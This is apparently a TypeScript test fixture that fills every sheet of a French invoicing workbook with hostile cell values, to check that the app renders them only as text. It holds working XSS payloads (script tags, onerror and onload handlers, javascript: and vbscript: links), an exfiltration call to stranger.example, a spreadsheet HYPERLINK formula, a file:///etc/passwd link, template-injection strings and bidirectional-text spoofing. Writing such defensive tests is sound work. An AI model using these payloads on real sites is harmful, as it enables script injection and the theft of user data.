import { day, serialOfDay } from "#shared/base/day.ts";
import { HEADERS } from "#shared/workbook/tabs.ts";
import type { Workbook } from "../sandbox/workbook/workbook.ts";
import { namedRows, type PlainCell, plainWorkbook } from "./plain-workbook.ts";

/** Tuesday 17 November 2026. */
export const HOSTILE_TODAY = "2026-11-17";

const on = (text: string): PlainCell => ({ serial: serialOfDay(day(text)) });

/** What would run if a page took it for anything else than text: it sets a mark on the window, and asks a stranger. */
export const CODE = "window.taken=1;new Image().src='https://stranger.example/?'+document.title";
const IMAGE = `<img src=x onerror="${CODE}">`;
const SCRIPT = `<script>${CODE}</script>`;
const LINK = `javascript:${CODE}`;
/** As long as a hostile cell gets, and without one place to break the line. */
const LONG = "W".repeat(10_000);
const TURNED = "\u202eFSD.erutcaf\u2066\u2067 exe";
const TEMPLATE = "{{{constructor}}}{{#lambda}}{{/lambda}}{{=<% %>=}}$\u007b7*7}";

/** Names by what they try; each begins with a letter of its own so that it is found again. */
export const HOSTILE_NAMES = [
  `Alpha ${IMAGE}`,
  `Bravo ${SCRIPT}`,
  `Charlie ${LINK}`,
  `Delta ${LONG}`,
  `Echo ${TURNED}`,
  `Foxtrot ${TEMPLATE}`,
  `=HYPERLINK("https://stranger.example/";"Golf")`,
  `"><svg/onload=${CODE}><iframe srcdoc="${SCRIPT}">`,
] as const;

const LINKS = [
  LINK,
  ` JaVaScRiPt:${CODE}`,
  `data:text/html,${SCRIPT}`,
  `https://stranger.example/${LONG}`,
  `vbscript:${CODE}`,
  `https://factures.example/fa-6"onmouseover="${CODE}`,
  `file:///etc/passwd`,
  `//stranger.example/${SCRIPT}`,
];

const all = `${IMAGE}${SCRIPT}\n${LINK} ${TURNED} ${LONG}`;

/** A workbook in which every text an owner can type, or a stranger can have typed, tries to be more than text. */
export function hostileWorkbook(): Workbook {
  return plainWorkbook(`Suivi ${IMAGE} ${TURNED}`, [
    [
      "Factures",
      [
        [
          "Client",
          "N° facture",
          "Date",
          "Échéance",
          "Montant TTC",
          "Lien facture",
          "Commande / engagement",
          "Chantier / site",
        ],
        ...HOSTILE_NAMES.flatMap((name, at) => [
          [
            name,
            `FA-${at}${IMAGE}`,
            on("2026-09-01"),
            on("2026-10-01"),
            1_000 + at,
            LINKS[at] ?? null,
            all,
            SCRIPT,
          ],
          [
            name,
            `${TURNED}-${at}`,
            on("2026-10-01"),
            on("2026-10-31"),
            500 + at,
            LINKS[7 - at] ?? null,
            IMAGE,
            all,
          ],
        ]),
      ],
    ],
    [
      "Clients",
      namedRows(
        "Clients",
        HOSTILE_NAMES.map((name, at) => ({
          Client: name,
          Code: `C-${at}`,
          Interlocuteur: `${IMAGE} ${LONG}`,
          "E-mail": at % 2 === 0 ? `client${at}@hostile.example` : `${IMAGE}@hostile.example`,
          Téléphone: at === 0 ? "06 12 34 56 78" : `tel:${SCRIPT}`,
          Adresse: all,
          SIREN: at === 0 ? "732829320" : IMAGE,
          Responsable: at % 2 === 0 ? IMAGE : TURNED,
          Secteur: SCRIPT,
          Typologie: at === 1 ? SCRIPT : "",
          "Contact d'escalade": all,
          Note: all,
        })),
      ),
    ],
    [
      "Règlements",
      namedRows("Règlements", [
        { Identifiant: IMAGE, Date: on("2026-11-12"), Libellé: all, Montant: 1_000, Devise: "EUR" },
        {
          Identifiant: "P-2",
          Date: on("2026-11-13"),
          Client: HOSTILE_NAMES[4],
          Libellé: SCRIPT,
          Montant: 20,
        },
        { Identifiant: "P-3", Date: on("2026-11-13"), Libellé: `VIR ${LONG}`, Montant: 1_004, Devise: IMAGE },
      ]),
    ],
    [
      "Journal",
      namedRows(
        "Journal",
        HOSTILE_NAMES.flatMap((name, at): readonly Readonly<Record<string, PlainCell>>[] => [
          {
            Identifiant: `N-${at}`,
            Date: on("2026-11-03"),
            Client: name,
            Événement: at % 2 === 0 ? "promesse" : "litige ouvert",
            Factures: `FA-${at}${IMAGE}`,
            Montant: 100,
            "Date promise": on("2026-11-10"),
            Motif: all,
            Détail: all,
            Auteur: IMAGE,
            Référence: LINK,
          },
          {
            Identifiant: `M-${at}`,
            Date: on("2026-11-04"),
            Client: name,
            Événement: "note",
            Motif: SCRIPT,
            Détail: all,
          },
        ]),
      ),
    ],
    [
      "Courriers",
      namedRows("Courriers", [
        {
          Identifiant: "R-1",
          Date: on("2026-11-03"),
          Client: HOSTILE_NAMES[0],
          Destinataires: all,
          Objet: IMAGE,
          Texte: all,
          "Montant réclamé": 10,
          "Empreinte (SHA-256)": SCRIPT,
        },
      ]),
    ],
    [
      "Modèles",
      [HEADERS.Modèles, [IMAGE, SCRIPT, all], ["courtois", `Facture ${IMAGE}`, `${TEMPLATE}${all}`]],
    ],
    [
      "Réglages",
      [
        HEADERS.Réglages,
        ["Raison sociale", `Menuiserie ${IMAGE}`, IMAGE],
        ["Adresse", all, ""],
        ["E-mail", `${SCRIPT}@hostile.example`, ""],
        ["Téléphone", IMAGE, ""],
        ["Signataire courant", SCRIPT, ""],
        ["Signataire mise en demeure", IMAGE, ""],
        ["IBAN", SCRIPT, ""],
        [IMAGE, all, SCRIPT],
      ],
    ],
    [`Notes ${IMAGE}`, [[all], [SCRIPT]]],
  ]);
}
